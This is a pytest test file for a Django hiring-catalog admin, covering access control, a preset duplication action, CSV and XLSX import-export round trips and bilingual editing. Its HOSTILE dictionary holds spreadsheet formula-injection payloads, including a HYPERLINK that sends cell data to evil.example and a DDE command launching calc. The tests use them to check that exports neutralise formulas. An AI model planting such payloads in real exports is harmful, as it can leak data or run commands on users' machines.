import pytest
import tablib
from django.urls import reverse
from django.utils import translation

from hiring.catalog.models import (
    AssessmentMethod,
    Capability,
    CapabilityCategory,
    ChallengeEffect,
    CoreChallenge,
    Industry,
    Preset,
    PresetItem,
    Priority,
    ScreeningTerm,
)
from hiring.catalog.resources import (
    CapabilityResource,
    ChallengeEffectResource,
    CoreChallengeResource,
    ScreeningTermResource,
)

CATALOG_MODELS = [
    Industry,
    CapabilityCategory,
    Priority,
    AssessmentMethod,
    Capability,
    Preset,
    PresetItem,
]


def admin_urls():
    for model in CATALOG_MODELS:
        opts = model._meta
        yield reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
        yield reverse(f"admin:{opts.app_label}_{opts.model_name}_add")


@pytest.mark.parametrize("model", CATALOG_MODELS, ids=lambda m: m._meta.model_name)
def test_catalog_admin_opens_list_add_change_and_history(client, catalog, admin_amy, model):
    client.force_login(admin_amy)
    opts = model._meta
    obj = model.objects.first()
    for name, args in [
        ("changelist", []),
        ("add", []),
        ("change", [obj.pk]),
        ("history", [obj.pk]),
    ]:
        response = client.get(
            reverse(f"admin:{opts.app_label}_{opts.model_name}_{name}", args=args)
        )
        assert response.status_code == 200, (name, response.status_code)


def test_catalog_admin_list_search_and_filter(client, catalog, admin_amy):
    client.force_login(admin_amy)
    url = reverse("admin:catalog_capability_changelist")

    found = client.get(url, {"q": "共情"}).context["cl"].result_list
    assert [c.name for c in found] == ["共情能力"]

    category = CapabilityCategory.objects.get(slug="hard")
    found = client.get(url, {"category__id__exact": category.pk}).context["cl"].result_list
    names = {c.name for c in found}
    assert "学历" in names and "共情能力" not in names


def test_hr_and_anonymous_users_are_refused(client, catalog, hr_alice):
    for url in admin_urls():
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]
    client.force_login(hr_alice)
    for url in admin_urls():
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_duplicate_preset_action_copies_every_item(client, catalog, admin_amy):
    client.force_login(admin_amy)
    preset = Preset.objects.get(slug="ecommerce")
    response = client.post(
        reverse("admin:catalog_preset_changelist"),
        {"action": "duplicate", "_selected_action": [preset.pk]},
        follow=True,
    )
    assert response.status_code == 200
    copy = Preset.objects.exclude(pk=preset.pk).get(name__startswith=preset.name)
    assert not copy.is_active
    # Each language's text is copied, and each language's name says it is a copy.
    assert copy.name_zh_hans == f"{preset.name_zh_hans} （副本）"
    assert copy.name_en == f"{preset.name_en} (copy)"
    assert (copy.summary_zh_hans, copy.summary_en) == (preset.summary_zh_hans, preset.summary_en)
    assert {i.requirement_en for i in copy.items.all()} == {
        i.requirement_en for i in preset.items.all()
    }
    original = {(i.capability_id, i.requirement, i.priority_id) for i in preset.items.all()}
    copied = {(i.capability_id, i.requirement, i.priority_id) for i in copy.items.all()}
    assert copied == original
    first = preset.items.order_by("pk").first()
    assert set(copy.items.get(capability=first.capability).methods.all()) == set(
        first.methods.all()
    )


def test_capability_csv_round_trip_changes_nothing(catalog):
    resource = CapabilityResource()
    exported = resource.export().csv
    before = resource.export().dict

    result = resource.import_data(tablib.Dataset().load(exported, format="csv"), dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 0
    assert result.totals["update"] == 0
    assert resource.export().dict == before


def test_capability_csv_import_updates_a_changed_row(catalog):
    resource = CapabilityResource()
    data = tablib.Dataset().load(resource.export().csv, format="csv")
    row = next(i for i, r in enumerate(data.dict) if r["slug"] == "education")
    data[row] = tuple(
        "本科及以上" if h == "requirement_zh_hans" else v
        for h, v in zip(data.headers, data[row], strict=True)
    )

    result = resource.import_data(data, dry_run=False)

    assert result.totals["update"] == 1
    assert Capability.objects.get(slug="education").requirement == "本科及以上"


@pytest.mark.parametrize("fmt, content_type", [("0", "text/csv"), ("1", "spreadsheetml")])
def test_capability_admin_exports_csv_and_xlsx(client, catalog, admin_amy, fmt, content_type):
    client.force_login(admin_amy)
    url = reverse("admin:catalog_capability_export")
    form = client.get(url).context["form"]
    data = {"format": fmt, "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if field.initial is True})

    response = client.post(url, data)

    assert response.status_code == 200
    assert content_type in response["Content-Type"]
    content = response.content if fmt == "1" else response.content.decode("utf-8-sig")
    dataset = tablib.Dataset().load(content, format="xlsx" if fmt == "1" else "csv")
    assert len(dataset) == Capability.objects.count()
    assert "共情能力" in dataset["name_zh_hans"]
    assert "Empathy" in dataset["name_en"]


def test_preset_items_xlsx_round_trip_changes_nothing(catalog):
    from hiring.catalog.resources import PresetItemResource

    resource = PresetItemResource()
    xlsx = resource.export().xlsx

    result = resource.import_data(tablib.Dataset().load(xlsx, format="xlsx"), dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 0 and result.totals["update"] == 0


HOSTILE = {
    "education": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "empathy": "+1+cmd|' /C calc'!A0",
    "systems-tools": "-2+3",
    "communication": "@SUM(1,1)",
}


def export(client, fmt: str) -> bytes:
    url = reverse("admin:catalog_capability_export")
    form = client.get(url).context["form"]
    data = {"format": fmt, "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if field.initial is True})
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def make_hostile():
    present = dict(Capability.objects.filter(slug__in=HOSTILE).values_list("slug", "pk"))
    assert len(present) == len(HOSTILE), "the fixture slugs changed"
    for slug in present:
        Capability.objects.filter(slug=slug).update(requirement=HOSTILE[slug])
    return {slug: HOSTILE[slug] for slug in present}


def test_admin_csv_opens_in_excel_and_runs_no_formula(client, catalog, admin_amy):
    hostile = make_hostile()
    client.force_login(admin_amy)

    content = export(client, "0")

    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark for Excel
    rows = tablib.Dataset().load(content.decode("utf-8-sig"), format="csv").dict
    requirements = {row["slug"]: row["requirement_zh_hans"] for row in rows}
    for slug, text in hostile.items():
        assert requirements[slug] == "'" + text
    assert "共情能力" in [row["name_zh_hans"] for row in rows]


def test_admin_xlsx_holds_no_formula_cells(client, catalog, admin_amy):
    from io import BytesIO

    import openpyxl

    hostile = make_hostile()
    client.force_login(admin_amy)

    book = openpyxl.load_workbook(BytesIO(export(client, "1")))

    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert all("'" + text in values for text in hostile.values())


def test_a_neutralised_export_imports_back_unchanged(catalog):
    hostile = make_hostile()
    resource = CapabilityResource()
    exported = resource.export().csv

    result = resource.import_data(tablib.Dataset().load(exported, format="csv"), dry_run=False)

    assert not result.has_errors() and result.totals["update"] == 0
    for slug, text in hostile.items():
        assert Capability.objects.get(slug=slug).requirement == text


CHALLENGE_MODELS = [CoreChallenge, ChallengeEffect, ScreeningTerm]


@pytest.mark.parametrize("model", CHALLENGE_MODELS, ids=lambda m: m._meta.model_name)
def test_challenge_admin_opens_list_add_change_and_history(client, catalog, admin_amy, model):
    client.force_login(admin_amy)
    opts = model._meta
    obj = model.objects.first()
    for name, args in [
        ("changelist", []),
        ("add", []),
        ("change", [obj.pk]),
        ("history", [obj.pk]),
    ]:
        response = client.get(
            reverse(f"admin:{opts.app_label}_{opts.model_name}_{name}", args=args)
        )
        assert response.status_code == 200, (name, response.status_code)


@pytest.mark.parametrize(
    "resource_class", [CoreChallengeResource, ChallengeEffectResource, ScreeningTermResource]
)
def test_challenge_csv_round_trip_changes_nothing(catalog, resource_class):
    resource = resource_class()
    before = resource.export().dict

    result = resource.import_data(
        tablib.Dataset().load(resource.export().csv, format="csv"), dry_run=False
    )

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 0 and result.totals["update"] == 0
    assert resource.export().dict == before


def test_challenge_effects_export_as_xlsx(client, catalog, admin_amy):
    client.force_login(admin_amy)
    url = reverse("admin:catalog_challengeeffect_export")
    form = client.get(url).context["form"]
    data = {"format": "1", "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if field.initial is True})

    response = client.post(url, data)

    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]


def test_capability_admin_edits_chinese_and_english_side_by_side(client, catalog, admin_amy):
    capability = Capability.objects.get(slug="empathy")
    client.force_login(admin_amy)
    url = reverse("admin:catalog_capability_change", args=[capability.pk])

    response = client.get(url)

    html = response.text
    for name in ("name", "requirement", "star_prompts", "anchor_5"):
        assert f'name="{name}_zh_hans"' in html and f'name="{name}_en"' in html
        assert f'name="{name}"' not in html
    # Both languages of a text on one line of the form.
    fieldsets = response.context["adminform"].fieldsets
    lines = [line for _title, options in fieldsets for line in options["fields"]]
    assert ("requirement_zh_hans", "requirement_en") in lines
    assert 'value="共情能力"' in html and 'value="Empathy"' in html


def test_an_english_text_saved_in_admin_shows_to_english_readers(client, catalog, admin_amy):
    category = CapabilityCategory.objects.get(slug="bonus")
    client.force_login(admin_amy)
    url = reverse("admin:catalog_capabilitycategory_change", args=[category.pk])
    data = {
        "slug": "bonus",
        "name_zh_hans": "加分项",
        "name_en": "Nice to have",
        "description_zh_hans": category.description_zh_hans,
        "description_en": "",
        "order": category.order,
    }

    response = client.post(url, data)

    assert response.status_code == 302, response.context["adminform"].form.errors
    category.refresh_from_db()
    with translation.override("en"):
        assert category.name == "Nice to have"
        # Left empty in English: the Chinese text shows instead.
        assert category.description == category.description_zh_hans
    assert category.name == "加分项"
    history = category.history.first()
    assert (history.name_zh_hans, history.name_en) == ("加分项", "Nice to have")


def test_reverting_to_an_earlier_version_restores_both_languages(client, catalog, admin_amy):
    category = CapabilityCategory.objects.get(slug="bonus")
    category.name_en = "Nice to have"
    category.save()
    wanted = category.history.first()
    category.name_en = "Extras"
    category.name_zh_hans = "附加项"
    category.save()
    client.force_login(admin_amy)
    url = reverse(
        "admin:catalog_capabilitycategory_simple_history", args=[category.pk, wanted.history_id]
    )
    form = client.get(url).context["adminform"].form
    data = {name: form[name].value() for name in form.fields}

    response = client.post(url, {k: "" if v is None else v for k, v in data.items()})

    assert response.status_code == 302
    category.refresh_from_db()
    assert (category.name_zh_hans, category.name_en) == ("加分项", "Nice to have")
